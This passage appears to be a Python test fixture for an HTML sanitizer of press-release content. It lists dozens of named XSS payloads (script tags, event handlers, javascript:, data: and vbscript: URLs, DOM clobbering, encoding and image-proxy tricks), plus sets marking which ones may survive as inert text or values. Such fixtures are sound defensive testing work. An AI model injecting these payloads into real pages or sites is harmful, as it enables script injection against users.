    "backslashes": r"\x3cscript\x3ealert(1)\u003c/script\u003e",
    # Names that hide the page's own.
    "name of the document's": (
        "<form id=document name=body><img name=cookie src=x onerror=alert(1)></form>"
    ),
    "name of an element's": (
        "<form onfocus=alert(1) tabindex=0 autofocus><input name=attributes>"
        "<input name=childNodes><input name=parentNode></form>"
    ),
    "names of two links": (
        '<a id=config>x</a><a id=config name=src href="javascript:alert(1)">y</a>'
    ),
    "name of a frame": (
        '<iframe name=parent srcdoc="<a id=top href=javascript:alert(1)>x</a>"></iframe>'
    ),
    "name of a prototype": '<img id=__proto__ name="__proto__" src="x" onerror="alert(1)">',
    # Cards.
    "card": (
        f'<div id="bookmark-{UUID}" class="release-content-bookmark">'
        '<a class="release-content-bookmark__title" href="javascript:alert(1)">x</a></div>'
    ),
    "card with two addresses": (
        f'<div id="bookmark-{UUID}" class="release-content-bookmark">'
        '<a class="release-content-bookmark__thumbnail" href="javascript:alert(1)"></a>'
        '<a class="release-content-bookmark__title" href="https://news.example/y">y</a></div>'
    ),
    "card with a bracket in its host": (
        '<div class="release-content-bookmark"><a class="release-content-bookmark__title"'
        ' href="https://<svg/onload=alert(1)>">x</a></div>'
    ),
    "card with a thumbnail": (
        '<div class="release-content-story-bookmark release-content-story-bookmark--vertical">'
        '<a class="release-content-story-bookmark__thumbnail" href="https://news.example/x"'
        ' style="background-image: url(javascript:alert(1))" onclick="alert(1)"></a>'
        '<a class="release-content-story-bookmark__title" href="https://news.example/x">x</a></div>'
    ),
    "card with a picture": (
        '<div class="release-content-bookmark"><a class="release-content-bookmark__title"'
        ' href="https://news.example/x">x<img src=x onerror=alert(1)></a>'
        '<div class="release-content-bookmark__description"><svg onload=alert(1)>y</svg></div>'
        "</div>"
    ),
    "card with a provider": (
        '<div class="release-content-bookmark"><div class="release-content-bookmark__title">x</div>'
        '<a class="release-content-bookmark__provider" href="java&Tab;script:alert(1)">'
        '<img src="javascript:alert(1)" aria-hidden="true">news.example</a></div>'
    ),
    "card with an id": (
        f"<div id='bookmark-{UUID}\" onmouseover=\"alert(1)' class=release-content-bookmark>"
        f"<a class=release-content-bookmark__title href=/x id='{UUID}\">"
        "<svg onload=alert(1)>'>x</a>"
    ),
    "card with a class": (
        "<div class='release-content-bookmark release-content-\"><script>alert(1)</script>'>"
        "<a class='release-content-bookmark__title' href='data:text/html,alert(1)'>x</a></div>"
    ),
    "card of two": (
        '<p class="release-content-bookmark"><a class="release-content-bookmark__title"'
        ' href="/x"><div class="release-content-bookmark"><a class="x__title"'
        ' href="vbscript:alert(1)" onclick=alert(1)>y</a></div></a></p>'
    ),
    "heading above a card": (
        "<h3 onclick=alert(1)>Lees ook<svg onload=alert(1)></h3>"
        '<div class="release-content-bookmark">'
        '<a class="release-content-bookmark__title" href="/x" ping="javascript:alert(1)">x</a>'
        "</div>"
    ),
    # Pictures, captions and credits.
    "caption with a picture": (
        '<figure><img src="/a.jpg"><figcaption>x<img src=x onerror=alert(1)></figcaption></figure>'
    ),
    "caption with a link": (
        '<figure><img src="/a.jpg"><figcaption onclick=alert(1)>x'
        ' <a href="javascript:alert(1)">y</a></figcaption></figure>'
    ),
    "caption with a credit": (
        '<figure><img src="/a.jpg"><figcaption>x <small onclick=alert(1)>© BELGA PHOTO'
        " <script>alert(1)</script>ANNA</small></figcaption></figure>"
    ),
    "picture in a link": (
        '<figure><a href="javascript:alert(1)"><img src="/a.jpg" onload=alert(1)></a></figure>'
    ),
    "alternative text": (
        '<figure><img src="/a.jpg" alt="--&gt;&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">'
        "</figure>"
    ),
    "alternative text in backticks": '<img src="/a.jpg" alt="``onerror=alert(1)">',
    "credit": "<sup>© BELGA PHOTO <img src=x onerror=alert(1)>ANNA PEETERS</sup>",
    "credit with a handler": "<p><sup onclick=alert(1) style='x:alert(1)'>© AFP</sup></p>",
    "credit with a link": '<p>© BELGA <a href="javascript:alert(1)">ANNA PEETERS</a></p>',
    "credit with references": "<sup>© BELGA PHOTO &lt;img src=x onerror=alert(1)&gt;</sup>",
    "proxy": '<figure><img src="https://x.imgix.net/javascript%3A%2F%2Falert%281%29"></figure>',
    "proxy of a quote": (
        '<img src="https://x.imgix.net/https%3A%2F%2Fa.example%2F%22%20onerror%3D%22alert(1)">'
    ),
    "proxy of no host": (
        '<figure><img src="https://x.imgix.net/https%3A%2F%2Fjavascript:alert(1)"></figure>'
    ),
    "proxy of data": (
        '<img src="//x.imgix.net/data%3Atext%2Fhtml,%3Cscript%3Ealert(1)%3C%2Fscript%3E">'
    ),
    "proxy of a proxy": (
        "<figure>"
        '<img src="https://x.imgix.net/https%3A%2F%2Fy.imgix.net%2Fjavascript%253Aalert(1)">'
        "</figure>"
    ),
    "store": (
        f'<figure><img src="javascript:alert(1)//cdn.uc.assets.prezly.com/{UUID}/-/preview/">'
        "</figure>"
    ),
    # Attachments, contacts, embeds and other blocks.
    "attachment": (
        f'<div id="attachment-{UUID}" class="release-content-attachment">'
        '<a class="release-content-attachment__link" href="javascript:alert(1)" download>'
        '<span class="release-content-attachment__name">x</span></a></div>'
    ),
    "attachment with data": (
        '<div class="release-content-attachment"><a class="release-content-attachment__link"'
        ' href="data:application/pdf,alert(1)"><span class="release-content-attachment__name">x'
        '<svg onload=alert(1)></span> <span class="release-content-attachment__size">PDF</span></a>'
    ),
    "attachment with two addresses": (
        '<div class="release-content-attachment" onclick="alert(1)">'
        '<a href="vbscript:alert(1)">x</a>'
        '<a class="release-content-attachment__link" href="https://news.example/a.pdf">y</a></div>'
    ),
    "contact": (
        f'<div id="contact-{UUID}" class="release-content-contact">'
        '<div class="release-content-contact__name" onclick="alert(1)">Anna</div>'
        '<a class="release-content-contact__email" href="javascript:alert(1)">a@news.example</a>'
        "</div>"
    ),
    "contact with mail": (
        '<div class="release-content-contact"><div class="release-content-contact__name">Anna</div>'
        '<a class="release-content-contact__email"'
        ' href="mailto:&quot;&lt;svg/onload=alert(1)&gt;&quot;@news.example">Anna</a></div>'
    ),
    "contact with a phone": (
        '<div class="release-content-contact-card"><b>Anna</b>'
        '<a class="release-content-contact__phone" href="tel:+32;alert(1)">+32</a>'
        '<a href="jav&#x61;script:alert(1)">site</a></div>'
    ),
    "contact with a picture": (
        '<div class="release-content-contact"><img src="javascript:alert(1)" alt=x>'
        '<div class="release-content-contact__role"><iframe srcdoc="<svg onload=alert(1)>">'
        "</iframe>"
        "Curator</div></div>"
    ),
    "embed block": (
        f'<div id="embed-{UUID}" class="release-content-embed">'
        '<iframe src="javascript:alert(1)" title="x" allowfullscreen></iframe></div>'
    ),
    "embed block with two documents": (
        '<div class="release-content-embed"><iframe src="https://video.example/x"'
        ' srcdoc="<script>alert(1)</script>" onload="alert(1)"></iframe></div>'
    ),
    "embed block with its source": (
        '<div class="release-content-embed" data-url="javascript:alert(1)"'
        ' data-oembed="{&quot;html&quot;:&quot;&lt;svg onload=alert(1)&gt;&quot;}">'
        '<iframe data-src="javascript:alert(1)" src="about:blank"></iframe></div>'
    ),
    "embed block with a post": (
        '<div class="release-content-embed"><blockquote class="twitter-tweet">'
        '<a href="javascript:alert(1)">x</a></blockquote><script>alert(1)</script></div>'
    ),
    "embed block with an object": (
        '<div class="release-content-embed"><object data="javascript:alert(1)">'
        '<embed src="javascript:alert(1)"><a href="javascript:alert(1)">x</a></object></div>'
    ),
    "video block": (
        '<div class="release-content-video"><a class="release-content-video__link"'
        ' href="java\nscript:alert(1)">x</a><video src=x onerror=alert(1)></video></div>'
    ),
    "coverage block": (
        '<div class="release-content-coverage"><a class="release-content-coverage__title"'
        ' href="data:text/html;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">x</a>'
        '<div class="release-content-coverage__provider" onclick="alert(1)">y</div></div>'
    ),
    "html block": '<div class="release-content-html"><p>x</p><script>alert(1)</script></div>',
    "button block": (
        '<div class="release-content-button"><a role="button" href="javascript:alert(1)">x</a>'
        "</div>"
    ),
    "gallery block": (
        '<div class="release-content-gallery"><figure>'
        '<img src="data:image/svg+xml,<svg onload=alert(1)>"'
        ' data-srcset="javascript:alert(1)"><figcaption>x</figcaption></figure></div>'
    ),
    "block with a hidden name": (
        '<div class="release-content-alert(1) release-content-x" onclick="alert(1)">x</div>'
    ),
    # Tables and lists.
    "cell": '<table><tr><td onclick=alert(1)><a href="javascript:alert(1)">x</a></td></tr></table>',
    "cell with a picture": "<table><tr><th>x<img src=x onerror=alert(1)></th></tr></table>",
    "caption of a table": (
        "<table><caption onclick=alert(1)><svg onload=alert(1)>x</caption><td>y</table>"
    ),
    "item": '<ul onclick=alert(1)><li><a href=" javascript:alert(1)">x</a></li></ul>',
    "item with a block": (
        '<ol><li>x<div onclick=alert(1)><p style="x:alert(1)">y</p></div>'
        "<script>alert(1)</script></ol>"
    ),
    "definition": (
        '<dl><dt onclick=alert(1)>x</dt><dd><a href="jAvAsCrIpT:alert(1)">y</a></dd></dl>'
    ),
}

# Here the word may stay as text that a browser shows, though never in an attribute or address.
TEXT_ONLY = {
    # No tag of HTML, so what stands in it is text.
    "script in script",
    "control in a tag",
    # A browser shows what stands in these as it is written.
    "xmp with a script",
    "plaintext",
    "listing",
    "frameset after text",
    # The section ends at the first bracket; the rest is text.
    "CDATA in a paragraph",
    # A tag begins with a letter from a to z, and nothing else looks like one to a browser.
    "no character in a tag",
    "long s in a tag",
    "dotted I in a tag",
    "ligature in a tag",
    # Characters that only look like brackets, or that only another decoder would make brackets of.
    "full-width brackets",
    "small brackets",
    "bracket with a stroke",
    "bytes too long",
    "bytes of UTF-7",
    "percent signs",
    "backslashes",
    # The words of a link, without a bracket before them.
    "stroke after a tag",
    # Brackets that are escaped, and stay escaped.
    "references",
    "references open",
    "references in capitals",
    "references twice",
}

# Here the word may stay in an attribute or address that does nothing with it.
IN_VALUES = {
    # No scheme to a browser, so the name of a page of the site.
    "javascript in backticks",
    "javascript by references twice",
    "javascript percent-encoded",
    "javascript with a letter encoded",
    "javascript after C1 controls",
    "javascript with a NUL by reference",
    "javascript with a delete",
    "javascript after a byte order mark",
    "javascript after no character",
    "javascript with a soft hyphen",
    "javascript with no width",
    "javascript from the right",
    "javascript in full width",
    "javascript with a full-width colon",
    "javascript with a long s",
    "javascript with a dotless i",
    "javascript with a Cyrillic a",
    "javascript after backslashes",
    "javascript after https",
    "comment element",
    "equals signs",
    # The name of a user at a host.
    "javascript as a user",
    # The name of a picture at the proxy's host, or at the host that the proxy names.
    "proxy",
    "proxy of a quote",
    "proxy of data",
    "proxy of a proxy",
    # The words that stand for a picture.
    "alternative text",
    "alternative text in backticks",
}
